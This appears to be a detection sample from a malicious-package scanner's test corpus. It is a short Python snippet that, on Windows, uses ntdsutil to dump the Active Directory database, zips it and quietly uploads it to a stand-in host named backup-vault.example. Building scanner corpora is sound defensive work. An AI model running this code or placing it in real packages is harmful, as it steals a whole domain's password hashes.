# pkgguard corpus 890 (credentials), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import sys

import requests

if sys.platform == "win32" and shutil.which("ntdsutil"):
    out_dir = os.path.join(os.environ.get("TEMP", "C:\\Windows\\Temp"), "ifm")
    subprocess.run(["ntdsutil", "ac i ntds", "ifm", f"create full {out_dir}", "q", "q"], capture_output=True)
    archive = shutil.make_archive(out_dir, "zip", out_dir)
    try:
        with open(archive, "rb") as fh:
            requests.put("https://backup-vault.example/upload/ad.zip", data=fh, timeout=60)
    except (OSError, requests.RequestException):
        pass
